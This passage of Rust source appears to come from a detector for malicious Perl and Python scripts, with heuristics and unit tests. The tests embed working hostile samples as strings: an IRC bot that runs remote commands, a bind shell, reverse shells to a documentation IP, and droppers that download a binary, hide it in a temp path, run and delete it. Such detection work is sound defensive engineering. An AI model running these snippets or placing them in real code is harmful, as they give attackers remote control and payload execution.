            }
        } else if self.name(call.end) == Some("as")
            && let Some(f) = self.name(call.end + 1)
        {
            act.handles.insert(f.to_string(), path);
        } else if let Some((lhs, _)) = self
            .assignments(r)
            .into_iter()
            .find(|(lhs, rhs)| rhs.contains(&call.at) && !lhs.is_empty())
            && let [f] = self.lhs_keys(lhs, cx).as_slice()
        {
            act.handles.insert(f.clone(), path);
        }
    }

    fn perl_mode(&self, r: Range<usize>) -> bool {
        let k = r.start;
        let (digits, radix) = match self.t(k) {
            Some(T::Num(n)) if n.starts_with('0') && n.len() > 1 => {
                (n.trim_start_matches('0').to_string(), 8)
            }
            Some(T::Num(n)) => (n.clone(), 10),
            Some(T::Name(n)) if n == "oct" => match self.t(k + 1).or(self.t(k + 2)) {
                Some(T::Str { text, .. }) => (text.trim_start_matches("0o").to_string(), 8),
                _ => return false,
            },
            _ => return false,
        };
        u32::from_str_radix(&digits.replace('_', ""), radix).is_ok_and(|m| m & 0o111 != 0)
    }

    fn python_mode(&self, r: Range<usize>) -> bool {
        (r.start..r.end).any(|k| match self.t(k) {
            Some(T::Name(n)) => n.contains("S_IX") || n.contains("S_IEXEC") || n.contains("S_IRWX"),
            Some(T::Num(n)) => {
                let n = n.to_ascii_lowercase().replace('_', "");
                let m = if let Some(o) = n.strip_prefix("0o") {
                    u32::from_str_radix(o, 8)
                } else if let Some(x) = n.strip_prefix("0x") {
                    u32::from_str_radix(x, 16)
                } else if n.starts_with('0') && n.len() > 1 {
                    u32::from_str_radix(&n[1..], 8)
                } else {
                    n.parse()
                };
                m.is_ok_and(|m| m & 0o111 != 0)
            }
            _ => false,
        })
    }
}

/// A piece of an interpolating string.
enum Piece {
    Lit(String),
    Var(String),
    Unknown,
}

/// Perl list operators whose arguments may come without parentheses.
const PERL_LIST_OPS: &[&str] = &[
    "system", "exec", "open", "print", "printf", "say", "chmod", "unlink", "chdir", "syswrite",
    "sysread", "recv", "send", "socket", "connect", "accept", "getstore", "mirror", "eval", "read",
];

/// What the script was seen doing, in order.
#[derive(Default)]
struct Acts {
    /// Files opened for writing, by handle.
    handles: HashMap<String, String>,
    /// A command whose program came from a socket.
    remote: Option<usize>,
    /// A command or code that was downloaded, run.
    downloaded_run: Option<usize>,
    /// A shell started.
    shell: Option<usize>,
    /// Standard input or output duplicated onto another handle or a socket.
    dup: bool,
}

/// A sub's or method's own name: `Foo::bar` and `self.bar` are `bar`.
fn short_name(name: &str) -> &str {
    name.rsplit(['.', ':']).next().unwrap_or(name)
}

/// Whether a command downloads (`curl`, `wget`…).
fn fetches(cmd: &str) -> bool {
    shellcmd::kinds(cmd)
        .iter()
        .any(|k| matches!(k, SignKind::Fetch | SignKind::DownloadExec))
}

/// The first word of a command, without its folder.
fn first_word(cmd: &str) -> Option<&str> {
    let w = cmd
        .split_whitespace()
        .find(|w| !matches!(*w, "exec" | "nohup" | "sudo" | "setsid"))?;
    Some(w.rsplit('/').next().unwrap_or(w))
}

/// The labels of network data in the place of a program in a command line: the
/// first word of each command, or the command a shell is given with `-c`.
fn head_labels(cmd: &str, depth: u8) -> u8 {
    let mut l = 0;
    for piece in cmd.split([';', '|', '&', '\n', '`', '(']) {
        let mut words = piece.split_whitespace().skip_while(|w| {
            matches!(
                *w,
                "exec" | "nohup" | "sudo" | "setsid" | "env" | "eval" | "then" | "do" | "$"
            ) || w.contains('=')
        });
        let Some(first) = words.next() else {
            continue;
        };
        l |= markers_in(first);
        let name = first
            .rsplit('/')
            .next()
            .unwrap_or(first)
            .trim_matches(['"', '\'']);
        if SHELLS.contains(&name) && depth < 2 {
            let rest: Vec<&str> = words.collect();
            if let Some(c) = rest
                .iter()
                .position(|w| w.starts_with('-') && w.ends_with('c'))
            {
                let inner = rest[c + 1..].join(" ");
                l |= head_labels(inner.trim_matches(['"', '\'']), depth + 1);
            }
        }
    }
    l
}

#[cfg(test)]
mod tests {
    use super::super::{perl, python};
    use super::*;

    fn perl(src: &str) -> Vec<Heuristic> {
        let mut j = Judge::default();
        judge(
            src.as_bytes(),
            &perl::tokens(src.as_bytes()),
            Lang::Perl,
            &mut j,
        );
        j.drops.report(&mut j.seen);
        let mut h: Vec<Heuristic> = j.seen.0.iter().map(|(h, _)| *h).collect();
        h.sort_by_key(|h| h.index());
        h
    }

    fn python(src: &str) -> Vec<Heuristic> {
        let mut j = Judge::default();
        judge(
            src.as_bytes(),
            &python::tokens(src.as_bytes()),
            Lang::Python,
            &mut j,
        );
        j.drops.report(&mut j.seen);
        let mut h: Vec<Heuristic> = j.seen.0.iter().map(|(h, _)| *h).collect();
        h.sort_by_key(|h| h.index());
        h
    }

    use Heuristic::*;

    #[test]
    fn perl_socket_data_run_as_a_command() {
        // Through a sub's parameters and a regex capture.
        let bot = r#"
use IO::Socket::INET;
my $s = IO::Socket::INET->new(PeerAddr => "irc.example.net:6667");
print $s "NICK a\r\n"; print $s "USER a 0 * :a\r\n"; print $s "JOIN #c\r\n";
while (my $line = <$s>) {
    if ($line =~ /PRIVMSG \S+ :!run (.*)/) { run_it($1); }
}
sub run_it { my $cmd = shift; my @out = `$cmd 2>&1`; }
"#;
        assert_eq!(perl(bot), [ScriptRemoteCommand, ScriptIrcBot]);
        // The same socket and a constant command: nothing.
        let notify = bot.replace(
            "my @out = `$cmd 2>&1`;",
            "my @up = `uptime`; print $s \"PRIVMSG #c :$cmd @up\\r\\n\";",
        );
        assert!(perl(&notify).is_empty(), "{:?}", perl(&notify));
        // sysread into a buffer, the program at the head of a string.
        let back = r#"
use Socket;
socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in(4444, inet_aton("203.0.113.5")));
while (sysread(S, my $buf, 1024)) { my @c = split /\n/, $buf; for my $c (@c) { system("$c"); } }
"#;
        assert_eq!(perl(back), [ScriptRemoteCommand]);
    }

    #[test]
    fn perl_shell_on_a_socket() {
        let src = r#"
use Socket;
socket(SOCK, PF_INET, SOCK_STREAM, getprotobyname('tcp'));
bind(SOCK, sockaddr_in(31337, INADDR_ANY)); listen(SOCK, 1);
accept(CLIENT, SOCK);
open(STDIN, ">&CLIENT"); open STDOUT, ">&", \*CLIENT; open(STDERR, ">&CLIENT");
exec {"/bin/sh"} "-sh";
"#;
        assert_eq!(perl(src), [ScriptSocketShell]);
        // A log file duplicated nowhere, a shell run: nothing.
        assert!(
            perl(
                "open(my $l, '>', '/var/log/x.log'); system('/bin/sh', '/usr/local/bin/rotate.sh');"
            )
            .is_empty()
        );
    }

    #[test]
    fn perl_download_made_executable_and_run() {
        let src = r#"
use LWP::UserAgent;
my $ua = LWP::UserAgent->new;
my $f = "/var/tmp/.ssh-agent";
my $r = $ua->get("http://203.0.113.9/x86");
open(my $o, '>', $f) or die; binmode $o; print $o $r->content; close $o;
chmod 0755, $f;
system("nohup $f >/dev/null 2>&1 &");
unlink $f;
"#;
        assert_eq!(
            perl(src),
            [
                ScriptFetchRun,
                ScriptHiddenDrop,
                ScriptRunDelete,
                ScriptTempExec
            ]
        );
        let simple = "use LWP::Simple;\ngetstore('http://h/b', '/tmp/b');\nchmod(0700, '/tmp/b');\nexec('/tmp/b');\n";
        assert_eq!(perl(simple), [ScriptFetchRun, ScriptTempExec]);
        // Mirrored, then an unrelated program run: no drop.
        let mirror = "use LWP::Simple;\nmirror('https://h/list.txt', '/srv/list.txt');\nsystem('/usr/sbin/service', 'nginx', 'reload');\n";
        assert!(perl(mirror).is_empty());
    }

    #[test]
    fn python_backconnects_and_droppers() {
        let pty = "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.5',443))\nfor fd in (0,1,2):\n    os.dup2(s.fileno(),fd)\npty.spawn('/bin/bash')\n";
        assert_eq!(python(pty), [ScriptSocketShell]);
        let popen = "from socket import create_connection\nimport subprocess as sp\nc = create_connection(('h', 53))\nsp.call(['/bin/sh', '-i'], stdin=c, stdout=c, stderr=c)\n";
        assert_eq!(python(popen), [ScriptSocketShell]);
        let recv = "import socket, subprocess\ndef handle(conn):\n    while True:\n        data = conn.recv(4096)\n        out = subprocess.getoutput(data.decode().strip())\n        conn.send(out.encode())\ns = socket.socket()\ns.connect(('h', 1))\nhandle(s)\n";
        // The socket is passed in; its data is run.
        assert_eq!(python(recv), [ScriptRemoteCommand]);
        let fstring = "import socket, os\ns = socket.socket(); s.connect(('h', 1))\nwhile 1:\n    c = s.recv(99).decode()\n    os.system(f\"{c} 2>&1\")\n";
        assert_eq!(python(fstring), [ScriptRemoteCommand]);
        let drop = "import urllib.request, os, subprocess\nr = urllib.request.urlopen('http://h/b').read()\nwith open('/dev/shm/.b', 'wb') as f:\n    f.write(r)\nos.chmod('/dev/shm/.b', 0o755)\nsubprocess.Popen(['/dev/shm/.b'])\nos.remove('/dev/shm/.b')\n";
        assert_eq!(
            python(drop),
            [
                ScriptFetchRun,
                ScriptHiddenDrop,
                ScriptRunDelete,
                ScriptTempExec
            ]
        );
        let eval = "import urllib2\nexec(urllib2.urlopen('http://h/p').read())\n";
        assert_eq!(python(eval), [ScriptFetchRun]);
    }

    #[test]
    fn python_honest_network_and_commands() {
        let deploy = r#"
import os, subprocess, requests
REPO = "/srv/app"
r = requests.get("https://api.example.com/deploy", timeout=10)
info = r.json()
if info.get("deploy"):
    os.chdir(REPO)
    subprocess.run(["git", "pull", "--ff-only"], check=True)
    subprocess.run(["git", "checkout", info["ref"]], check=True)
    os.system("systemctl reload php8.2-fpm")
"#;
        assert!(python(deploy).is_empty(), "{:?}", python(deploy));
        let check = "import socket, subprocess\ns = socket.create_connection(('127.0.0.1', 3306), timeout=3)\nbanner = s.recv(64)\nif not banner:\n    subprocess.call(['systemctl', 'restart', 'mariadb'])\n";
        assert!(python(check).is_empty(), "{:?}", python(check));
    }

    #[test]
    fn rendering() {
        assert_eq!(head_labels("nohup \u{1} &", 0), SOCKET);
        assert_eq!(head_labels("git checkout \u{2}", 0), 0);
        assert_eq!(head_labels("/bin/sh -c '\u{1} 2>&1'", 0), SOCKET);
        assert_eq!(head_labels("echo x; \u{2}", 0), HTTP);
    }
}
